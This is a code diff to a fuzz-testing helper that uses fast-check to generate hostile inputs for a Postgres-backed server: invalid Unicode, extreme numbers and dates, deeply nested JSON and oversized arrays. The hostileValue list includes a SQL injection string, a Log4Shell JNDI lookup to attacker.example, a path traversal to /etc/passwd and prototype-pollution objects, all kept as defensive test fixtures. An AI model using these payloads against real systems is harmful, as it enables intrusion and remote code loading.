@@ -176,21 +176,101 @@ function requiredKeysOf(def: SchemaDef): string[] {
     .map(([key]) => key);
 }
 
+/** Nested `depth` levels deep, as a value. */
+const nested = (depth: number): unknown => Array.from({ length: depth }).reduce<unknown>((inner) => [inner], 0);
+
+/** Text Postgres cannot store, in and around otherwise ordinary text. */
+export const unstorableText: Arbitrary<string> = fc
+  .tuple(
+    fc.string({ unit: "binary", maxLength: 16 }),
+    fc.constantFrom("\u0000", "\uD800", "\uDBFF", "\uDC00", "\uDFFF", "\uDC00\uD800"),
+    fc.string({ unit: "binary", maxLength: 16 }),
+  )
+  .map(([before, unstorable, after]) => `${before}${unstorable}${after}`);
+
+/** Numbers at and past the edges of what JSON, JavaScript and Postgres columns hold. */
+export const extremeNumber: Arbitrary<number> = fc.oneof(
+  fc.constantFrom(
+    -0,
+    Number.MAX_VALUE,
+    -Number.MAX_VALUE,
+    Number.MIN_VALUE,
+    Number.MAX_SAFE_INTEGER + 2,
+    2 ** 31,
+    -(2 ** 31) - 1,
+    2 ** 63,
+    NaN,
+    Infinity,
+    -Infinity,
+  ),
+  fc.double(),
+);
+
+/** Dates at and past the edges of what Postgres and JavaScript hold, invalid ones included. */
+export const extremeDate: Arbitrary<Date> = fc.oneof(
+  fc.constantFrom(
+    new Date(8.64e15),
+    new Date(-8.64e15),
+    new Date("+300000-01-01T00:00:00Z"),
+    new Date("0000-01-01T00:00:00Z"),
+    new Date("-004713-11-24T00:00:00Z"),
+    new Date(Number.NaN),
+  ),
+  fc.date(),
+);
+
 /** What a hostile client puts where a value belongs. */
 export const hostileValue: Arbitrary<unknown> = fc.oneof(
   fc.anything({ withDate: true, withBigInt: false, withNullPrototype: true, maxDepth: 3 }),
+  fc.string({ unit: "binary" }),
+  unstorableText,
+  extremeNumber,
+  extremeDate,
   fc.constantFrom(
     "' OR 1=1 --",
     "${jndi:ldap://attacker.example/a}",
     "../../etc/passwd",
-    "\u0000",
     "x".repeat(OVERSIZED_STRING_LENGTH),
     -1,
-    Number.MAX_SAFE_INTEGER + 1,
-    1e308,
     [],
     {},
     JSON.parse('{"__proto__": {"polluted": true}}') as unknown,
+    Array.from({ length: 20_000 }, () => 0),
+    Array.from({ length: 2_000 }, () => "x".repeat(20)),
+    nested(40),
+  ),
+);
+
+/**
+ * JSON text no client library would produce: nested past any cap, numbers past any range,
+ * escapes of text Postgres cannot store, a huge array, a key that pollutes prototypes.
+ */
+/** JSON text nested past the server's cap, from just past it to deep enough to overflow a stack. */
+export const deeplyNestedJson: Arbitrary<string> = fc
+  .tuple(
+    // fast-check favours small integers; the depths that overflow a stack are named outright.
+    fc.oneof(fc.integer({ min: 33, max: 1_000 }), fc.constantFrom(10_000, 30_000, 100_000)),
+    fc.boolean(),
+  )
+  .map(([depth, asArrays]) =>
+    asArrays ? `${"[".repeat(depth)}${"]".repeat(depth)}` : `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`,
+  );
+
+export const hostileJsonText: Arbitrary<string> = fc.oneof(
+  deeplyNestedJson,
+  fc.constantFrom(
+    '{"value": 1e400}',
+    '{"value": -1e400}',
+    '{"value": 123456789012345678901234567890}',
+    '{"value": "\\u0000"}',
+    '{"value": "\\ud800"}',
+    '{"value": "a\\udfffb"}',
+    '{"\\u0000": 1}',
+    '{"__proto__": {"admin": true}}',
+    '{"a": 1, "a": 2}',
+    `[${Array.from({ length: 100_000 }, () => "0").join(",")}]`,
+    '"\\u0000"',
+    "nul\u0000",
   ),
 );
 
@@ -231,7 +311,7 @@ function typedLeavesOf(value: unknown, path: (string | number)[] = []): (string 
 
 function withTextAt(value: unknown, [key, ...rest]: (string | number)[]): unknown {
   if (key === undefined) return value instanceof Date ? value.toISOString() : String(value);
-  const copy: Record<string | number, unknown> = Array.isArray(value) ? [...value] : { ...(value as object) };
+  const copy = (Array.isArray(value) ? [...value] : { ...(value as object) }) as Record<string | number, unknown>;
   copy[key] = withTextAt(copy[key], rest);
   return copy;
 }
